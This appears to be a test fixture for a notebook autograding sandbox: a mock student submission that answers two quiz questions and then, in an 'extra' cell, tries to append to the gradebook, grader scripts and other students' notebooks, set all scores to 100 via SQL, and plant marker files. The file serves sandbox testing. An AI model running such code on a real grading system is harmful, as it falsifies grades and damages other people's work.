# Attack: write into the course, found by walking up from the working directory (plain nbgrader
# runs the kernel in autograded/<student>/<assignment>/, three levels below the course root):
# append to the gradebook, the graders, the source notebook and other students' notebooks,
# raise every score in the gradebook with SQL, plant files; print what worked.
# no-better-than: attack-baseline-wrong
# expect: q1_ema_tests=less
# expect: q1_formulas_tests=less
# %% q1_ema
def ema(g, beta):
    m = torch.zeros((g.shape[0] + 1, *g.shape[1:]), dtype=g.dtype)
    for step in range(g.shape[0]):
        m[step + 1] = (1 - beta) * m[step] + beta * g[step]
    return m
# %% q1_formulas
mean_mk = mu
var_mk = sigma**2 * (1 - beta) / (1 + beta) * (1 - beta**(2 * k))
var_limit = sigma**2
# %% extra
import glob, os, sqlite3
# (no further up than the course root of plain nbgrader: this example must not harm a machine
# where it is graded without the sandbox)
_roots = {os.path.abspath(os.path.join(os.getcwd(), *[".."] * up)) for up in range(4)}
_written = []
for _root in sorted(_roots):
    for _pattern in ["gradebook.db", "nbgrader_config.py", "graders/*.py", "source/*/*.ipynb",
                     "submitted/*/*/*.ipynb", "autograded/*/*/*.ipynb", "*/*/*.ipynb"]:
        for _path in glob.glob(os.path.join(_root, _pattern)):
            if os.path.realpath(os.path.dirname(_path)) == os.getcwd():
                continue  # our own folder is fair game
            try:
                with open(_path, "a") as _handle:
                    _handle.write("\n# PWNED by attack-write-course\n")
                _written.append(_path)
            except OSError:
                pass
    for _db in glob.glob(os.path.join(_root, "gradebook.db")):
        try:
            with sqlite3.connect(_db) as _connection:
                _connection.execute("UPDATE grade SET manual_score = 100")
            _written.append(_db + " (SQL)")
        except Exception:
            pass
    for _plant in ["graders/PWNED.py", "PWNED", "autograded/reference/PWNED"]:
        try:
            with open(os.path.join(_root, _plant), "w") as _handle:
                _handle.write("PWNED by attack-write-course\n")
            _written.append(os.path.join(_root, _plant))
        except OSError:
            pass
print("written outside my folder:", _written)
